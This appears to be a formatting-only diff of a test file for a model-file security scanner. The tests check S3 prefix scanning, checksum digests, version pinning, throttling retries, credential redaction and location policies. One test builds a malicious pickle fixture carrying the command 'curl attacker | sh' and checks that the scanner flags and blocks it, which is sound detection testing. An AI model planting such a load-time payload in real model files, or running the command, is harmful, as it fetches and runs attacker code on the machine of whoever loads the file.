@@ -11,14 +11,13 @@ from typing import Any
 
 import numpy as np
 import pytest
-from safetensors.numpy import save
-
-from source_helpers import codes, free_port, outcome, s3_client, s3_config, s3_scan
 from flaky_proxy import FlakyProxy
 from model_fixtures import malicious_pickle, torch_zip
+from safetensors.numpy import save
+from source_helpers import codes, free_port, outcome, s3_client, s3_config, s3_scan
+
 from modelsec.policy import Outcome, evaluate, parse_group
 from modelsec.rules.base import EvaluationInput, SourceType
-
 
 
 def safetensors_bytes(mib: int) -> bytes:
@@ -29,8 +28,12 @@ def safetensors_bytes(mib: int) -> bytes:
 def prefix_model(moto_endpoint: str, bucket: str) -> dict[str, bytes]:
     files = {"model.safetensors": safetensors_bytes(1), "config.json": b'{"a": 1}'}
     s3 = s3_client(moto_endpoint)
-    s3.put_object(Bucket=bucket, Key="team/model/model.safetensors", Body=files["model.safetensors"],
-                  ChecksumAlgorithm="SHA256")
+    s3.put_object(
+        Bucket=bucket,
+        Key="team/model/model.safetensors",
+        Body=files["model.safetensors"],
+        ChecksumAlgorithm="SHA256",
+    )
     s3.put_object(Bucket=bucket, Key="team/model/config.json", Body=files["config.json"])
     s3.put_object(Bucket=bucket, Key="team/model/", Body=b"")  # a console "folder" marker
     s3.put_object(Bucket=bucket, Key="team/other/x.bin", Body=b"not part of the model")
@@ -51,7 +54,11 @@ def test_prefix_is_a_model(moto_endpoint: str, bucket: str, prefix_model: dict[s
     # Read in part: the object's SHA-256 checksum is S3's claim, scoped to this endpoint,
     # bucket, key and ETag; the small config was read whole and hashed.
     checksum = hashlib.sha256(prefix_model["model.safetensors"]).hexdigest()
-    etag = s3_client(moto_endpoint).head_object(Bucket=bucket, Key="team/model/model.safetensors")["ETag"].strip('"')
+    etag = (
+        s3_client(moto_endpoint)
+        .head_object(Bucket=bucket, Key="team/model/model.safetensors")["ETag"]
+        .strip('"')
+    )
     assert weights.sha256 is None
     assert weights.digest == (
         f"claimed:sha256:{checksum}@{moto_endpoint}/{bucket}/team/model/model.safetensors@etag:{etag}"
@@ -71,7 +78,11 @@ def test_single_object(moto_endpoint: str, bucket: str, prefix_model: dict[str, 
     report = scanned.report
     assert not report.all_incompletes()
     assert [f.path for f in report.files] == [f"s3://{bucket}/team/model/model.safetensors"]
-    etag = s3_client(moto_endpoint).head_object(Bucket=bucket, Key="team/model/model.safetensors")["ETag"].strip('"')
+    etag = (
+        s3_client(moto_endpoint)
+        .head_object(Bucket=bucket, Key="team/model/model.safetensors")["ETag"]
+        .strip('"')
+    )
     assert report.revision == f"etag:{etag}:{len(prefix_model['model.safetensors'])}"
 
 
@@ -99,7 +110,9 @@ def test_versioned_bucket_records_and_pins_versions(moto_endpoint: str, bucket: 
     assert outcome(missing) == Outcome.ERROR
 
 
-def test_pinned_prefix_that_changed_is_an_error(moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]) -> None:
+def test_pinned_prefix_that_changed_is_an_error(
+    moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]
+) -> None:
     first = s3_scan(f"s3://{bucket}/team/model/", s3_config(moto_endpoint)).report.revision
     s3_client(moto_endpoint).put_object(Bucket=bucket, Key="team/model/config.json", Body=b'{"a": 2}')
     pinned = s3_scan(f"s3://{bucket}/team/model/@{first}", s3_config(moto_endpoint))
@@ -121,11 +134,14 @@ def test_malicious_pickle_and_torch_zip_are_found(moto_endpoint: str, bucket: st
     s3 = s3_client(moto_endpoint)
     evil = malicious_pickle("curl attacker | sh")
     s3.put_object(Bucket=bucket, Key="evil/model.pkl", Body=evil)
-    s3.put_object(Bucket=bucket, Key="evil/pytorch_model.bin", Body=torch_zip({"0": bytes(4096)}, pickle_bytes=evil))
+    s3.put_object(
+        Bucket=bucket, Key="evil/pytorch_model.bin", Body=torch_zip({"0": bytes(4096)}, pickle_bytes=evil)
+    )
     scanned = s3_scan(f"s3://{bucket}/evil/", s3_config(moto_endpoint))
     flagged = {
         f.file.split("!")[0].rsplit("/", 1)[-1]
-        for f in scanned.report.all_findings() if f.rule == "LoadTimeCodeExecution"
+        for f in scanned.report.all_findings()
+        if f.rule == "LoadTimeCodeExecution"
     }
     assert flagged == {"model.pkl", "pytorch_model.bin"}
     assert outcome(scanned) == Outcome.BLOCKED
@@ -175,7 +191,9 @@ def test_connection_refused() -> None:
     assert "cannot connect" in scanned.report.incompletes[0].reason
 
 
-def test_throttling_is_retried_then_bounded(moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]) -> None:
+def test_throttling_is_retried_then_bounded(
+    moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]
+) -> None:
     proxy = FlakyProxy(moto_endpoint).start()
     try:
         proxy.slow_down_remaining = 3
@@ -237,7 +255,9 @@ def test_credentials_never_in_reports_or_logs(
     assert not [s for s in secrets if s in caplog.text]
 
 
-def test_cli_scans_s3_reference_with_environment_credentials(moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]) -> None:
+def test_cli_scans_s3_reference_with_environment_credentials(
+    moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]
+) -> None:
     import subprocess
     import sys
 
@@ -252,7 +272,10 @@ def test_cli_scans_s3_reference_with_environment_credentials(moto_endpoint: str,
     }
     run = subprocess.run(
         [sys.executable, "-m", "modelsec.cli.main", "scan", f"s3://{bucket}/team/model/", "--format", "json"],
-        capture_output=True, text=True, env=env, timeout=120,
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=120,
     )
     assert run.returncode in (0, 1), run.stderr
     assert "model.safetensors" in run.stdout
@@ -270,12 +293,22 @@ def test_keys_that_escape_the_prefix_are_not_laid_out(moto_endpoint: str, bucket
     assert os.listdir(tmp_path) == []  # nothing written outside (or left inside) the temp area
 
 
-def test_approved_location_applies_to_bucket_prefixes(moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]) -> None:
+def test_approved_location_applies_to_bucket_prefixes(
+    moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]
+) -> None:
     scanned = s3_scan(f"s3://{bucket}/team/model/", s3_config(moto_endpoint))
-    group = parse_group({"rules": [{"name": "ApprovedLocation", "params": {"approvedLocations": [f"s3://{bucket}/team"]}}]}, "t", "t")
+    group = parse_group(
+        {"rules": [{"name": "ApprovedLocation", "params": {"approvedLocations": [f"s3://{bucket}/team"]}}]},
+        "t",
+        "t",
+    )
     given = EvaluationInput(scanned.report, scanned.source_type, scanned.metadata)
     assert evaluate(group, given).outcome == Outcome.ALLOWED
-    other = parse_group({"rules": [{"name": "ApprovedLocation", "params": {"approvedLocations": [f"s3://{bucket}/prod"]}}]}, "t", "t")
+    other = parse_group(
+        {"rules": [{"name": "ApprovedLocation", "params": {"approvedLocations": [f"s3://{bucket}/prod"]}}]},
+        "t",
+        "t",
+    )
     assert evaluate(other, given).outcome == Outcome.BLOCKED
 
 
